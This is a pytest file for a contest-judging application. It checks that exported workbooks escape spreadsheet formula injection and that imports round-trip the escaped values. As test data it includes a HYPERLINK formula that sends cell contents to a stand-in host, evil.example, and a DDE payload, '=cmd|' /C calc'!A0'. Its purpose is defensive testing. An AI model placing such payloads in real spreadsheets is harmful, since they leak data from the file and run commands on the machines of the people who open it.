"""Formula injection: every text a user types starts with = + - @ in one contest, and every workbook the
system writes (registration catalogue, result lists and workbook, school summary, reward sheets, certificate
register, the contest workbook, the paper-score, people and entry import templates) holds it as text with
core.sheets.escape_cell's leading quote; the contest workbook reads it back unquoted."""
from __future__ import annotations

import io

import pytest

from judging.core import sheets
from tests.test_attack_surface import build_world, crawl

TRIGGERS = ("=", "+", "-", "@")


def formula_value(tag: str, size: str) -> str:
    prefix = TRIGGERS[sum(map(ord, tag)) % 4]
    if size == "long":
        return f'{prefix}HYPERLINK("http://evil.example/?x"&A1;"Q{tag}")'
    return f"{prefix}2+3+Q{tag}"  # at most 9 characters: fits every column


@pytest.fixture
def formula_world(db, edition, organizer, make_user):
    return build_world(db, edition, organizer, make_user, values=formula_value)


def _cells(data: bytes):
    """(sheet, coordinate, value, data_type) of every non-empty cell, formulas as openpyxl reads them."""
    import openpyxl

    book = openpyxl.load_workbook(io.BytesIO(data))
    return [(ws.title, c.coordinate, c.value, c.data_type) for ws in book.worksheets for row in ws.iter_rows()
            for c in row if c.value is not None]


# Fields every contest office finds in some workbook (the others are never exported: a judge's comment, ...).
EXPORTED = ("F01", "F05", "F06", "F07", "F11", "F13", "F17", "F19", "F24", "J1",
            "T1", "T2", "T3", "S1", "S2", "S3", "I1", "I2", "I3", "D1", "L1", "L2", "L3")


def test_every_exported_cell_starting_with_a_trigger_is_escaped(app, formula_world):
    world = formula_world
    result = crawl(app, world, roles=("organizer", "coordinator", "anonymous"))
    assert not result.problems, "\n".join(result.problems)
    # Every workbook route answered, re-read with openpyxl's formula detection.
    client_urls = sorted(result.xlsx)
    assert len(client_urls) >= 15, client_urls
    from tests.test_attack_surface import role_client

    unsafe, found = [], {}
    for key in client_urls:
        role, url = key.split(" ", 1)
        data = role_client(app, world, role).get(url).get_data()
        for sheet, where, value, data_type in _cells(data):
            if data_type == "f":
                unsafe.append(f"{key} {sheet}!{where}: formula {value!r}")
            elif isinstance(value, str) and value.startswith(sheets.FORMULA_TRIGGERS):
                unsafe.append(f"{key} {sheet}!{where}: unescaped {value!r}")
            elif isinstance(value, str):
                for tag, original in world.fields.items():
                    if value.startswith("'" + original):
                        found.setdefault(tag, []).append(key)
    assert not unsafe, "\n".join(unsafe)
    missing = [t for t in EXPORTED if t not in found]
    assert not missing, f"never exported (so never checked): {missing}"
    # The workbooks named in the issue were all among them, each with escaped cells.
    kinds = {"/print/catalogue.xlsx", "/results.xlsx", "/schools.xlsx", "/workbook.xlsx", "/rewards.xlsx",
             "/scores-template.xlsx", "/list.xlsx", "exchange/editions"}
    hit = {k for k in kinds if any(k in key for keys in found.values() for key in keys)}
    assert hit == kinds, kinds - hit


def _plain_criteria(tag: str, size: str) -> str:
    """Formula-like values, but criterion names plain (see the xfail below for those)."""
    return f"指标{tag}" if tag in ("F07", "F09") else formula_value(tag, size)


def test_the_contest_workbook_round_trips_the_values_unquoted(app, db, edition, organizer, make_user):
    """Exported with the quote, read back without it: the imported edition holds what was typed."""
    from judging.exchange import operations as exchange
    from judging.registration.models import Entry

    world = build_world(db, edition, organizer, make_user, values=_plain_criteria)
    data = exchange.export_edition(world.edition)
    cells = [v for _, _, v, _ in _cells(data) if isinstance(v, str)]
    assert "'" + world.fields["T1"] in cells
    world.edition.name = "原届次"  # edition names are unique: the copy comes back under the typed name
    db.session.commit()
    plan = exchange.plan_import(data, "round-trip.xlsx")
    assert not plan.faults, [str(f) for f in plan.faults][:5]
    titles = {e.title for e in plan.entries}
    assert {world.fields[f"T{i}"] for i in (1, 2, 3)} <= titles
    assert {world.fields[f"S{i}"] for i in (1, 2, 3)} <= {s.name for e in plan.entries for s in e.students}
    assert {world.fields[f"I{i}"] for i in (1, 2, 3)} <= {n for e in plan.entries for n in e.instructors}
    assert plan.edition_data["name"] == world.fields["F01"]
    assert {c.name for c in plan.categories} >= {world.fields["F06"]}
    assert {k.descriptor for c in plan.categories for k in c.criteria} >= {world.fields["F08"], world.fields["F10"]}
    assert {s.name for s in plan.schools} >= {world.fields["F17"]}
    assert {lv.name for lv in plan.levels} == {world.fields[f"L{i}"] for i in (1, 2, 3)}
    assert {s.comment for s in plan.scores} >= {world.fields["C1"]}
    imported = exchange.apply_import(plan, world.organizer)
    db.session.commit()
    stored = {e.title for e in db.session.scalars(db.select(Entry).where(Entry.edition_id == imported.id))}
    assert stored == {world.fields[f"T{i}"] for i in (1, 2, 3)}
    assert imported.name == world.fields["F01"] and imported.theme == world.fields["F02"]


# Known hole (exchange/workbook.py header_text does not unquote like core.sheets now does): the 评分 sheet's
# criterion columns, headed by escaped criterion names ("'=..."), are not found, so the import refuses every
# score row as "只有评语、没有分数".
def test_the_contest_workbook_round_trips_scores_under_criteria_named_like_formulas(db, formula_world):
    from judging.exchange import operations as exchange

    data = exchange.export_edition(formula_world.edition)
    formula_world.edition.name = "原届次"
    db.session.commit()
    plan = exchange.plan_import(data, "round-trip.xlsx")
    assert not plan.faults, [str(f) for f in plan.faults][:3]


def test_headers_written_escaped_are_found_on_import():
    """A template's header written through escape_cell (a criterion named "-扣分项") is matched on import."""
    spec = sheets.SheetSpec("评分", (sheets.Column("code", "作品编号", required=True),
                                   sheets.Column("minus", "-扣分项", required=True),
                                   sheets.Column("eq", "=创新性", required=True)))
    data = sheets.template_workbook(spec, [{"code": "XF-001", "minus": "-2", "eq": "=1"}])
    read = sheets.read_sheet(data, spec, "t.xlsx")
    assert read.present == {"code", "minus", "eq"}
    assert read.rows[0].values == {"code": "XF-001", "minus": "-2", "eq": "=1"}


def test_the_paper_score_template_round_trips_criteria_named_like_formulas(db, edition, organizer, make_user,
                                                                          make_school, make_entry):
    """scoring.paper: the template's criterion columns carry the escaped names; filled in and uploaded, the
    scores are read under the right criteria."""
    from openpyxl import load_workbook

    from judging.contests import operations as contest_ops
    from judging.scoring import paper
    from judging.scoring.models import Assignment, Panel, PanelJudge

    xf = edition.categories[0]
    contest_ops.save_rubric(xf, [
        {"id": xf.criteria[0].id, "name": "=创新性", "max_points": 60},
        {"id": xf.criteria[1].id, "name": "-实用性", "max_points": 40}])
    prelim = next(r for r in edition.rounds if r.kind == "preliminary")
    judge = make_user("judge", username="paper_judge", display_name="+评委甲")
    entry = make_entry(make_school(), category=xf)
    panel = Panel(edition_id=edition.id, round_id=prelim.id, category_id=xf.id, division_id=entry.division_id)
    db.session.add(panel)
    db.session.flush()
    db.session.add(PanelJudge(panel_id=panel.id, judge_id=judge.id))
    db.session.add(Assignment(round_id=prelim.id, panel_id=panel.id, entry_id=entry.id, judge_id=judge.id))
    db.session.commit()
    template = paper.template_bytes(prelim)
    book = load_workbook(io.BytesIO(template))
    ws = book[paper.SHEET_TITLE]
    headers = [c.value for c in ws[1]]
    assert "'=创新性" in headers and "'-实用性" in headers
    assert ws.cell(row=2, column=2).value == "'+评委甲"
    ws.cell(row=2, column=headers.index("'=创新性") + 1, value=50)
    ws.cell(row=2, column=headers.index("'-实用性") + 1, value=30)
    plan = paper.plan_paper_import(sheets.workbook_bytes(book), "评分.xlsx", prelim)
    assert not plan.faults, [str(f) for f in plan.faults]
    assert [(r.code, r.judge_id, r.total) for r in plan.rows] == [(entry.code, judge.id, 80)]


@pytest.mark.parametrize("value", ["=1+1", "+86 138", "-5", "@SUM(A1)", "'=1+1", "''=x", "'plain", "=", "-",
                                   "城关=小学", "a-b"])
def test_escape_and_unescape_are_inverse(value):
    """What escape_cell writes, unescape_cell (every import's cell reader) gives back unchanged."""
    escaped = sheets.escape_cell(value)
    assert not escaped.startswith(TRIGGERS)
    assert sheets.unescape_cell(escaped) == value


def test_a_workbook_written_through_append_row_has_no_formula():
    from openpyxl import Workbook

    book = Workbook()
    values = ["=cmd|' /C calc'!A0", "+1", "-1", "@x", "\t=1", "\r=1", "=HYPERLINK(\"http://x\")", "ok"]
    sheets.append_row(book.active, values)
    for _, where, value, data_type in _cells(sheets.workbook_bytes(book)):
        assert data_type != "f", (where, value)
        assert not value.startswith(sheets.FORMULA_TRIGGERS), (where, value)
